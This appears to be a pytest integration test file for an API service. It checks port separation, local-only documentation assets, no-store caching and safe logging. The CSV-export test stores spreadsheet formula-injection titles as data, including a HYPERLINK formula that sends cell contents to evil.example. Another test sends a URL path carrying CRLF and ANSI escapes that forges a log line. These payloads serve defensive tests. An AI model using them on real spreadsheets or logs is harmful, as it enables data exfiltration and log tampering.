"""Endpoint hygiene on the real store: the public port serves /v1/* and the probes only, the
ops port the metrics and the docs (their assets local, no CDN), tenant responses are never
cached, and a request's path cannot forge a log line."""

from __future__ import annotations

import csv
import io
import json
import re
import signal
import time
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest

from api.main import create_app
from api.ops import create_ops_app
from consumers.compare import export
from consumers.sample import cloud_event
from services.decoding import decode
from services.events import Event
from services.mongo.bootstrap import Services
from services.projection import fold
from services.settings import Settings

pytestmark = pytest.mark.integration

PRIVATE = ("/metrics", "/docs", "/redoc", "/openapi.json")
# any absolute URL in an attribute or a script: an asset that would come from elsewhere
ELSEWHERE = re.compile(r"""(?:src|href|url)\s*[=:(]\s*['"]?(?:https?:)?//""", re.IGNORECASE)


@pytest.fixture
async def ops(services: Services, settings: Settings) -> AsyncIterator[httpx.AsyncClient]:
    """The ops app in process, beside a public app on the real store."""
    api = create_app(settings)
    api.state.services = services
    transport = httpx.ASGITransport(app=create_ops_app(api, settings))
    async with httpx.AsyncClient(transport=transport, base_url="http://ops.test") as client:
        yield client


async def test_the_public_port_serves_no_docs_nor_metrics(api: httpx.AsyncClient) -> None:
    for path in PRIVATE:
        assert (await api.get(path)).status_code == 404, path
    assert (await api.get("/healthz")).json() == {"status": "alive"}
    assert (await api.get("/readyz")).status_code == 200


async def test_the_docs_load_only_local_assets(ops: httpx.AsyncClient) -> None:
    # given: the ops port's probes and its OpenAPI document, the public app's
    assert (await ops.get("/readyz")).json()["status"] == "ready"
    schema = (await ops.get("/openapi.json")).json()
    assert "/v1/threads" in schema["paths"]
    for page in ("/docs", "/redoc"):
        # when
        html = (await ops.get(page)).text
        # then: nothing from another host, and every asset it names answers here
        assert not ELSEWHERE.search(html), html
        assert "cdn" not in html.lower() and "fonts.googleapis" not in html
        assets = re.findall(r"""(?:src|href)=["']([^"']+)["']""", html)
        assert assets and all(a.startswith("/docs/assets/") for a in assets), assets
        for asset in assets:
            answer = await ops.get(asset)
            assert answer.status_code == 200 and len(answer.content) > 1000, asset
        assert "/openapi.json" in html


async def test_the_docs_come_back_on_the_public_port_when_asked(
    services: Services, settings: Settings
) -> None:
    app = create_app(settings.model_copy(update={"api_public_docs": True}))
    app.state.services = services
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://threadview.test") as c:
        assert (await c.get("/openapi.json")).json()["paths"]
        docs = await c.get("/docs")
        assert docs.status_code == 200 and not ELSEWHERE.search(docs.text)
        assert (await c.get("/docs/assets/swagger-ui-bundle.js")).status_code == 200
        assert (await c.get("/metrics")).status_code == 404  # never on the public port


async def test_tenant_responses_are_never_cached(
    api: httpx.AsyncClient, services: Services
) -> None:
    _, key = await services.keys.create("service", ["org_a"])
    answers = {
        200: await api.get("/v1/threads", headers={"X-API-Key": key}),
        400: await api.get("/v1/threads?limit=0", headers={"X-API-Key": key}),
        401: await api.get("/v1/threads", headers={"X-API-Key": "nope"}),
        404: await api.get("/v1/threads/thrd_none", headers={"X-API-Key": key}),
    }
    for status, answer in answers.items():
        assert answer.status_code == status, answer.text
        assert answer.headers["cache-control"] == "no-store", status
        assert answer.headers["vary"] == "X-API-Key", status
        assert answer.headers["x-request-id"]
    # the probes are not a caller's data
    assert "cache-control" not in (await api.get("/healthz")).headers


def test_one_process_two_ports_and_one_log_line_per_request(
    settings: Settings, services: Services, run_process: Any
) -> None:
    # given: the API as it runs, text logs
    api = run_process("api.main", settings)
    public = f"http://127.0.0.1:{settings.api_port}"
    ops = f"http://127.0.0.1:{settings.api_ops_port}"
    with httpx.Client(timeout=5) as client:
        deadline = time.monotonic() + 30
        while True:
            try:
                if client.get(f"{ops}/readyz").status_code == 200:
                    break
            except httpx.HTTPError:
                pass
            assert api.popen.poll() is None and time.monotonic() < deadline, api.output()
            time.sleep(0.2)
        # when: a path that would forge a log line once decoded, and an ANSI escape
        forged = client.get(f"{public}/v1/threads%0A2026-01-01%20INFO%20FAKE%1B%5B2J%0D")
        assert forged.status_code in (401, 404)
        assert client.get(f"{public}/metrics").status_code == 404
        # the ops port counts the public port's requests
        assert "http_request_duration_seconds" in client.get(f"{ops}/metrics").text
        assert client.get(f"{ops}/docs").status_code == 200
    # then: SIGTERM stops both servers gracefully
    api.popen.send_signal(signal.SIGTERM)
    assert api.popen.wait(15) == 0, api.output()
    lines = api.output().splitlines()
    faked = [line for line in lines if "FAKE" in line]
    assert len(faked) == 1, lines
    assert "GET /v1/threads%0A2026-01-01%20INFO%20FAKE%1B%5B2J%0D 404" in faked[0], faked
    assert sum("Finished server process" in line for line in lines) == 2, lines


async def test_a_csv_export_neutralises_formulas_and_jsonl_keeps_them(
    services: Services,
) -> None:
    # given: threads whose titles a spreadsheet would run as formulas, and one plain
    titles = {
        "thrd_f1": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
        "thrd_f2": "-1+1",
        "thrd_f3": "@SUM(A1:A9)",
        "thrd_f4": "+33 1 23 45 67 89",
        "thrd_f5": "\tTabbed",
        "thrd_plain": "Budget 2026 = 5 k€",
    }
    await services.store.save(
        [(fold(None, [_created(thread_id, title)]), None) for thread_id, title in titles.items()]
    )
    # when
    as_csv, as_jsonl = io.StringIO(), io.StringIO()
    assert await export(services.store, as_csv, "csv") == len(titles)
    assert await export(services.store, as_jsonl, "jsonl") == len(titles)
    # then: every formula is text, the rest is as it was, numbers and dates included
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(as_csv.getvalue()))}
    for thread_id, title in titles.items():
        expected = title if thread_id == "thrd_plain" else f"'{title}"
        assert rows[thread_id]["title"] == expected
        assert rows[thread_id]["created_at"].startswith("2025-11-17T10:00:00")
        assert rows[thread_id]["message_count"] == "0"
    lines = [json.loads(line) for line in as_jsonl.getvalue().splitlines()]
    assert {line["id"]: line["title"] for line in lines} == titles


def _created(thread_id: str, title: str) -> Event:
    value = json.dumps(
        cloud_event(
            "thread.created",
            thread_id,
            "2025-11-17T10:00:00Z",
            {"organization_id": "org_1", "user_id": "usr_1", "title": title},
        )
    ).encode()
    decoded = decode(thread_id.encode(), value, [])
    assert isinstance(decoded, Event), decoded
    return decoded
